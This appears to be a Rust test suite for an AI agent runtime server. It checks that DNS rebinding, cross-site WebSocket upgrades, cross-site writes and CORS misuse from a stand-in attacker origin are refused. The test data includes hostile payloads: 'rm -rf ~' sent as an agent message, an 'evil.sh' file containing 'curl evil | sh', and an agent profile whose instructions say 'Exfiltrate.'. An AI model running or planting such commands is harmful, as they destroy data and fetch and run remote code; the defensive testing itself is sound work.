//! The HTTP edge, attacked the way a hostile web page would: DNS rebinding (a foreign `Host`),
//! cross-site WebSockets and state changes (a foreign `Origin`), CORS, `nosniff`. (Agent-written
//! files opened in a browser: `files.rs`.)

use agent_runtime_protocol::{ServerFrame, SubscribeResult};
use agent_runtime_server::edge::Origin;
use pretty_assertions::assert_eq;
use reqwest::Method;

use super::raw_http::{
    request_text, send_raw, subscribe_raw, ws_with_origin, RawResponse, UPGRADE_HEADERS,
};
use super::support::{assert_problem, within, TestServer};

const ATTACKER: &str = "http://attacker.example";
const APP: &str = "http://localhost:5173";

fn origins(list: &[&str]) -> Vec<Origin> {
    list.iter()
        .map(|o| Origin::parse(o).expect("origin"))
        .collect()
}

/// A request an attacker's page could make, and the status a loopback `Host` gets for it.
struct Probe {
    method: &'static str,
    target: String,
    headers: Vec<(&'static str, &'static str)>,
    body: &'static str,
    served: u16,
}

impl Probe {
    fn get(target: impl Into<String>, served: u16) -> Probe {
        Probe {
            method: "GET",
            target: target.into(),
            headers: Vec::new(),
            body: "",
            served,
        }
    }

    fn with(mut self, name: &'static str, value: &'static str) -> Probe {
        self.headers.push((name, value));
        self
    }

    fn text(&self, host: Option<&str>) -> String {
        request_text(self.method, &self.target, host, &self.headers, self.body)
    }
}

/// One request of each kind the server answers: REST read and write, SSE, the WebSocket, the
/// UI, health, the API description, a file, an unknown path.
fn every_kind_of_request(session: &str) -> Vec<Probe> {
    let mut websocket = Probe::get("/api/ws", 101);
    websocket.headers = UPGRADE_HEADERS.to_vec();
    vec![
        Probe::get("/api/sessions", 200),
        Probe {
            method: "POST",
            body: "{}",
            ..Probe::get("/api/sessions", 201).with("content-type", "application/json")
        },
        Probe::get(format!("/api/sessions/{session}/events"), 200),
        websocket,
        Probe::get("/", 200).with("accept", "text/html"),
        Probe::get(format!("/sessions/{session}"), 200).with("accept", "text/html"),
        Probe::get("/healthz", 200),
        Probe::get("/openapi.json", 200),
        Probe::get(format!("/api/sessions/{session}/files/a.txt"), 200),
        Probe::get("/nothing-here", 404),
    ]
}

async fn session_count(server: &TestServer) -> usize {
    within(server.client().list_sessions(None, None))
        .await
        .expect("list")
        .sessions
        .len()
}

#[tokio::test]
async fn without_a_key_a_foreign_host_is_misdirected_on_every_route() {
    let server = TestServer::start().await;
    let addr = server.server().local_addr();
    let session = server.create_session().await;
    within(server.client().write_file(&session, "a.txt", "x"))
        .await
        .expect("write");
    let port = addr.port();
    let foreign_hosts = [
        "attacker.example".to_string(),
        format!("attacker.example:{port}"),
        format!("localhost.attacker.example:{port}"),
        format!("127.0.0.1.nip.io:{port}"),
        format!("192.168.1.10:{port}"),
        format!("0.0.0.0:{port}"),
        format!("[::]:{port}"),
    ];
    for probe in every_kind_of_request(&session) {
        for host in &foreign_hosts {
            let response = send_raw(addr, &probe.text(Some(host))).await;
            response.assert_problem(421, "misdirected_request");
            assert_eq!(response.header("x-content-type-options"), Some("nosniff"));
        }
        // HTTP/1.1 without a Host.
        send_raw(addr, &probe.text(None))
            .await
            .assert_problem(421, "misdirected_request");
        // An absolute-form URI naming the attacker, with a loopback Host beside it.
        let absolute = Probe {
            target: format!("http://attacker.example:{port}{}", probe.target),
            ..probe
        };
        send_raw(addr, &absolute.text(Some(&format!("127.0.0.1:{port}"))))
            .await
            .assert_problem(421, "misdirected_request");
    }
    assert_eq!(session_count(&server).await, 1, "no POST got through");
    server.shutdown().await;
}

#[tokio::test]
async fn without_a_key_loopback_hosts_are_served() {
    let server = TestServer::start().await;
    let addr = server.server().local_addr();
    let session = server.create_session().await;
    within(server.client().write_file(&session, "a.txt", "x"))
        .await
        .expect("write");
    let port = addr.port();
    let loopback_hosts = [
        "localhost".to_string(),
        format!("localhost:{port}"),
        format!("LocalHost:{port}"),
        format!("app.localhost:{port}"),
        "127.0.0.1".to_string(),
        format!("127.0.0.1:{port}"),
        format!("127.8.9.10:{port}"),
        "[::1]".to_string(),
        format!("[::1]:{port}"),
    ];
    for host in &loopback_hosts {
        let response = send_raw(addr, &request_text("GET", "/healthz", Some(host), &[], "")).await;
        assert_eq!(response.status, 200, "{host}: {response:?}");
    }
    let host = format!("localhost:{port}");
    for probe in every_kind_of_request(&session) {
        let response = send_raw(addr, &probe.text(Some(&host))).await;
        assert_eq!(
            response.status, probe.served,
            "{} {}: {response:?}",
            probe.method, probe.target
        );
    }
    // An absolute-form URI naming a loopback host is served too.
    let absolute = format!("http://127.0.0.1:{port}/healthz");
    let response = send_raw(addr, &request_text("GET", &absolute, Some(&host), &[], "")).await;
    assert_eq!(response.status, 200, "{response:?}");
    server.shutdown().await;
}

#[tokio::test]
async fn with_an_api_key_any_host_is_served_and_auth_still_applies() {
    let server = TestServer::start_with(|config| config.api_keys = vec!["k1".into()]).await;
    let addr = server.server().local_addr();
    let host = Some("attacker.example");
    let response = send_raw(addr, &request_text("GET", "/healthz", host, &[], "")).await;
    assert_eq!(response.status, 200, "{response:?}");
    let response = send_raw(addr, &request_text("GET", "/api/sessions", host, &[], "")).await;
    response.assert_problem(401, "unauthorized");
    let authorized = [("authorization", "Bearer k1")];
    let response = send_raw(
        addr,
        &request_text("GET", "/api/sessions", host, &authorized, ""),
    )
    .await;
    assert_eq!(response.status, 200, "{response:?}");
    server.shutdown().await;
}

#[tokio::test]
async fn a_cross_site_websocket_is_refused_before_the_upgrade() {
    let server = TestServer::start_with(|config| config.allowed_origins = origins(&[APP])).await;
    let addr = server.server().local_addr();
    let session = server.create_session().await;

    for origin in [
        ATTACKER.to_string(),
        format!("http://attacker.example:{}", addr.port()),
        format!("http://localhost:{}", addr.port() ^ 1),
        "null".into(),
        "https://localhost:5173".into(),
    ] {
        let refused = ws_with_origin(addr, Some(&origin), None).await;
        assert_eq!(
            refused.err(),
            Some(403),
            "{origin}: no socket, so no subscribe"
        );
    }
    // On the wire: a problem, not 101.
    let mut headers = UPGRADE_HEADERS.to_vec();
    headers.push(("origin", ATTACKER));
    let host = addr.to_string();
    send_raw(
        addr,
        &request_text("GET", "/api/ws", Some(&host), &headers, ""),
    )
    .await
    .assert_problem(403, "origin_not_allowed");

    // The server's own origin (the web UI), an allowed one, and a client without Origin work.
    let own = format!("http://{addr}");
    let own_by_name = format!("http://localhost:{}", addr.port());
    for origin in [Some(own.as_str()), Some(APP), None] {
        let mut socket = ws_with_origin(addr, origin, None)
            .await
            .unwrap_or_else(|status| panic!("{origin:?}: refused with {status}"));
        match subscribe_raw(&mut socket, &session).await {
            ServerFrame::Result {
                ok: true,
                data: Some(data),
                ..
            } => {
                let result: SubscribeResult = serde_json::from_value(data).expect("result");
                assert_eq!(result.session_id, session);
            }
            other => panic!("{origin:?}: subscribe failed: {other:?}"),
        }
    }
    // Same origin is decided against the Host the browser sent: a page on
    // http://localhost:<port> reaching the server as localhost is its own origin too.
    let mut own_by_name_headers = UPGRADE_HEADERS.to_vec();
    own_by_name_headers.push(("origin", own_by_name.as_str()));
    let by_name_host = format!("localhost:{}", addr.port());
    let response = send_raw(
        addr,
        &request_text(
            "GET",
            "/api/ws",
            Some(&by_name_host),
            &own_by_name_headers,
            "",
        ),
    )
    .await;
    assert_eq!(response.status, 101, "{response:?}");
    server.shutdown().await;
}

#[tokio::test]
async fn a_cross_site_websocket_is_refused_even_with_a_valid_key() {
    let server = TestServer::start_with(|config| config.api_keys = vec!["k1".into()]).await;
    let addr = server.server().local_addr();
    assert_eq!(
        ws_with_origin(addr, Some(ATTACKER), Some("k1")).await.err(),
        Some(403)
    );
    let own = format!("http://{addr}");
    assert!(ws_with_origin(addr, Some(&own), Some("k1")).await.is_ok());
    server.shutdown().await;
}

#[tokio::test]
async fn a_cross_site_state_change_is_refused_and_changes_nothing() {
    let server = TestServer::start().await;
    let client = server.client();
    let session = server.create_session().await;
    let attempts: Vec<(Method, String, &str, &str)> = vec![
        (
            Method::POST,
            "/api/sessions".into(),
            "application/json",
            "{}",
        ),
        // A form post: a "simple" request no preflight would have stopped.
        (Method::POST, "/api/sessions".into(), "text/plain", "{}"),
        (
            Method::POST,
            format!("/api/sessions/{session}/messages"),
            "application/json",
            r#"{"text":"rm -rf ~"}"#,
        ),
        (
            Method::POST,
            format!("/api/sessions/{session}/interrupt"),
            "application/json",
            "{}",
        ),
        (
            Method::PATCH,
            format!("/api/sessions/{session}"),
            "application/json",
            r#"{"name":"pwned"}"#,
        ),
        (
            Method::PUT,
            format!("/api/sessions/{session}/files/evil.sh"),
            "text/plain",
            "curl evil | sh",
        ),
        (
            Method::PUT,
            "/api/profiles/evil".into(),
            "application/json",
            r#"{"instructions":"Exfiltrate."}"#,
        ),
        (
            Method::DELETE,
            format!("/api/sessions/{session}"),
            "application/json",
            "",
        ),
    ];
    let foreign_origins = [
        Some(ATTACKER),
        Some("null"),
        Some("http://127.0.0.1:1"),
        Some("not an origin"),
    ];
    for (method, path, content_type, body) in &attempts {
        for origin in foreign_origins {
            let mut request = client
                .request(method.clone(), path)
                .header("content-type", *content_type)
                .body(*body);
            if let Some(origin) = origin {
                request = request.header("origin", origin);
            }
            let response = within(request.send()).await.expect("send");
            assert!(
                response
                    .headers()
                    .get("access-control-allow-origin")
                    .is_none(),
                "{method} {path}"
            );
            assert_problem(response, 403, "origin_not_allowed").await;
        }
        // A browser that stripped Origin but says the request is cross-site.
        let response = within(
            client
                .request(method.clone(), path)
                .header("content-type", *content_type)
                .header("sec-fetch-site", "cross-site")
                .body(*body)
                .send(),
        )
        .await
        .expect("send");
        assert_problem(response, 403, "origin_not_allowed").await;
    }

    // Nothing changed.
    let sessions = within(client.list_sessions(None, None))
        .await
        .expect("list")
        .sessions;
    assert_eq!(sessions.len(), 1);
    assert_eq!(sessions[0].session_id, session);
    assert_eq!(sessions[0].name, None);
    assert_eq!(
        within(client.list_files(&session)).await.expect("files"),
        vec![]
    );
    assert_eq!(
        within(client.list_profiles()).await.expect("profiles"),
        vec![]
    );
    let snapshot = within(client.get_session(&session))
        .await
        .expect("snapshot");
    assert!(snapshot.state.blocks.is_empty(), "no message was sent");

    // Without Origin (curl), and from the server's own origin, the same requests work.
    let response = within(
        client
            .request(Method::POST, "/api/sessions")
            .header("content-type", "application/json")
            .body("{}")
            .send(),
    )
    .await
    .expect("send");
    assert_eq!(response.status(), 201);
    let own = server.base_url();
    let response = within(
        client
            .request(
                Method::PUT,
                &format!("/api/sessions/{session}/files/ok.txt"),
            )
            .header("origin", &own)
            .header("sec-fetch-site", "same-origin")
            .body("fine")
            .send(),
    )
    .await
    .expect("send");
    assert_eq!(response.status(), 201);
    let response = within(
        client
            .request(Method::PUT, "/api/profiles/p1")
            .header("origin", &own)
            .json(&serde_json::json!({"instructions": "Write."}))
            .send(),
    )
    .await
    .expect("send");
    assert_eq!(response.status(), 201);
    assert_eq!(session_count(&server).await, 2);
    server.shutdown().await;
}

fn header<'a>(response: &'a reqwest::Response, name: &str) -> Option<&'a str> {
    response.headers().get(name).and_then(|v| v.to_str().ok())
}

/// The comma-separated items of a header, lowercased.
fn items(response: &reqwest::Response, name: &str) -> Vec<String> {
    response
        .headers()
        .get_all(name)
        .iter()
        .filter_map(|v| v.to_str().ok())
        .flat_map(|v| v.split(','))
        .map(|item| item.trim().to_ascii_lowercase())
        .collect()
}

#[tokio::test]
async fn cors_answers_allowed_origins_and_nobody_else() {
    let server = TestServer::start_with(|config| {
        config.api_keys = vec!["k1".into()];
        config.allowed_origins = origins(&[APP]);
    })
    .await;
    let client = server.client();
    let anonymous = server.anonymous_client();
    let session = server.create_session().await;
    within(client.write_file(&session, "a.txt", "x"))
        .await
        .expect("write");

    // The preflight of a keyed JSON POST from the allowed app.
    let preflight = |origin: &'static str| {
        anonymous
            .request(Method::OPTIONS, "/api/sessions")
            .header("origin", origin)
            .header("access-control-request-method", "POST")
            .header(
                "access-control-request-headers",
                "authorization,content-type",
            )
            .send()
    };
    let response = within(preflight(APP)).await.expect("send");
    assert!(response.status().is_success(), "{response:?}");
    assert_eq!(header(&response, "access-control-allow-origin"), Some(APP));
    let methods = items(&response, "access-control-allow-methods");
    for method in ["get", "post", "put", "patch", "delete"] {
        assert!(methods.contains(&method.to_string()), "{methods:?}");
    }
    let allowed = items(&response, "access-control-allow-headers");
    for name in ["authorization", "content-type", "last-event-id"] {
        assert!(allowed.contains(&name.to_string()), "{allowed:?}");
    }
    assert_eq!(header(&response, "access-control-max-age"), Some("3600"));
    assert!(items(&response, "vary").contains(&"origin".to_string()));

    // The actual requests.
    let response = within(
        client
            .request(Method::POST, "/api/sessions")
            .header("origin", APP)
            .json(&serde_json::json!({}))
            .send(),
    )
    .await
    .expect("send");
    assert_eq!(response.status(), 201);
    assert_eq!(header(&response, "access-control-allow-origin"), Some(APP));
    assert!(items(&response, "vary").contains(&"origin".to_string()));
    let response = within(
        client
            .request(Method::GET, &format!("/api/sessions/{session}/files/a.txt"))
            .header("origin", APP)
            .send(),
    )
    .await
    .expect("send");
    assert_eq!(header(&response, "access-control-allow-origin"), Some(APP));
    let exposed = items(&response, "access-control-expose-headers");
    for name in ["x-sha256", "etag"] {
        assert!(exposed.contains(&name.to_string()), "{exposed:?}");
    }
    // EventSource (the key in the URL) and errors are readable too.
    let response = within(
        anonymous
            .request(
                Method::GET,
                &format!("/api/sessions/{session}/events?token=k1"),
            )
            .header("origin", APP)
            .send(),
    )
    .await
    .expect("send");
    assert_eq!(response.status(), 200);
    assert_eq!(header(&response, "access-control-allow-origin"), Some(APP));
    drop(response);
    let response = within(
        anonymous
            .request(Method::GET, "/api/sessions")
            .header("origin", APP)
            .send(),
    )
    .await
    .expect("send");
    assert_eq!(header(&response, "access-control-allow-origin"), Some(APP));
    assert_problem(response, 401, "unauthorized").await;

    // A foreign origin: its preflight is refused, and reads carry no CORS headers, so its page
    // cannot read them.
    let response = within(preflight(ATTACKER)).await.expect("send");
    assert_eq!(header(&response, "access-control-allow-origin"), None);
    assert_eq!(header(&response, "access-control-allow-methods"), None);
    assert_problem(response, 403, "origin_not_allowed").await;
    let response = within(
        client
            .request(Method::GET, "/api/sessions")
            .header("origin", ATTACKER)
            .send(),
    )
    .await
    .expect("send");
    assert_eq!(response.status(), 200);
    // (tower-http lists the exposed headers on every response; without an allowed origin that
    // list grants nothing.)
    assert_eq!(header(&response, "access-control-allow-origin"), None);
    assert_eq!(header(&response, "access-control-allow-credentials"), None);
    server.shutdown().await;
}

#[tokio::test]
async fn without_allowed_origins_there_is_no_cors_at_all() {
    let server = TestServer::start().await;
    let client = server.client();
    let response = within(
        client
            .request(Method::OPTIONS, "/api/sessions")
            .header("origin", APP)
            .header("access-control-request-method", "POST")
            .send(),
    )
    .await
    .expect("send");
    assert_eq!(header(&response, "access-control-allow-origin"), None);
    assert_problem(response, 403, "origin_not_allowed").await;
    let response = within(
        client
            .request(Method::GET, "/api/sessions")
            .header("origin", APP)
            .send(),
    )
    .await
    .expect("send");
    assert_eq!(response.status(), 200);
    assert_eq!(header(&response, "access-control-allow-origin"), None);
    server.shutdown().await;
}

#[tokio::test]
async fn every_response_says_nosniff() {
    let server = TestServer::start().await;
    let addr = server.server().local_addr();
    let host = addr.to_string();
    for (method, target) in [
        ("GET", "/healthz"),
        ("GET", "/api/sessions"),
        ("GET", "/api/sessions/nope"),
        ("GET", "/openapi.json"),
        ("PUT", "/api/sessions"),
        ("GET", "/"),
    ] {
        let response: RawResponse =
            send_raw(addr, &request_text(method, target, Some(&host), &[], "")).await;
        assert_eq!(
            response.header("x-content-type-options"),
            Some("nosniff"),
            "{method} {target}: {response:?}"
        );
    }
    server.shutdown().await;
}
